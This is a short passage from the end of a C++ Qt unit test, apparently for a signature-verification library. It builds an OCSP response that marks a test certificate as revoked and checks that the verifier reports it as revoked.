            pkix::ocspAnswer(pkix::entityOf(m_world.alice), root, responder, V_OCSP_CERTSTATUS_REVOKED, testTime().addDays(-1))};
        QCOMPARE(open(request).verdict.signature.axes.revocation, Revocation::Revoked);
    }
};

QTEST_GUILESS_MAIN(TestSpoofing)
#include "tst_Spoofing.moc"
